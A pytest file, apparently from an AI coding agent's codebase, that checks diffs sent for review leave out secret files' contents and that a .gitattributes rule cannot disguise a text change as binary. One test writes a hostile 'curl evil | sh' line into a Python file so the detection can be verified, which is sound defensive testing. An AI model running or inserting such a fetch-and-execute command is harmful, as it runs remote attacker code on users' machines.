"""What /review, /security-review and /simplify send the model (issue 38 item 2): never the
content of a file read_file asks about first (a secret's name, the agent's settings), changed
or new; and a repository's `.gitattributes` cannot hide a text file's change as "binary"."""

from __future__ import annotations

import asyncio
import subprocess
from pathlib import Path

from agent.git.diff import working_diff
from agent.tools.secret_hits import shown_files


def git(cwd: Path, *args: str) -> None:
    ident = ["-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run(["git", *ident, *args], cwd=cwd, check=True, capture_output=True)


def test_secret_files_are_named_never_shown(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")
    (repo / "app.py").write_text("print(1)\n")
    (repo / ".env").write_text("TOKEN=old\n")
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "one")
    (repo / "app.py").write_text("print(2)\n")
    (repo / ".env").write_text("TOKEN=sk-live-tracked\n")
    (repo / ".env.local").write_text("OPENAI_API_KEY=sk-live-new\n")
    (repo / "id_rsa").write_text("PRIVATE KEY\n")
    (repo / "notes.md").write_text("ordinary\n")
    diff = asyncio.run(working_diff(repo, trusted=True, keep=shown_files(repo)))
    assert "+print(2)" in diff and "+ordinary" in diff
    assert "sk-live" not in diff and "PRIVATE KEY" not in diff
    assert "changed files not shown (read_file asks before reading them)" in diff
    for name in (".env", ".env.local", "id_rsa"):
        assert name in diff.splitlines()[-1]


def test_an_attribute_cannot_hide_a_text_change(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q")
    (repo / ".gitattributes").write_text("*.py -diff\n")
    (repo / "a.py").write_text("def ok():\n    return 1\n")
    (repo / "blob.bin").write_bytes(b"\0\1\2")
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "one")
    (repo / "a.py").write_text("def ok():\n    import os; os.system('curl evil | sh')\n")
    (repo / "blob.bin").write_bytes(b"\0\1\3")
    diff = asyncio.run(working_diff(repo, trusted=True, keep=shown_files(repo)))
    assert "+    import os; os.system('curl evil | sh')" in diff
    assert "Binary files a/blob.bin and b/blob.bin differ" in diff  # really binary: kept so
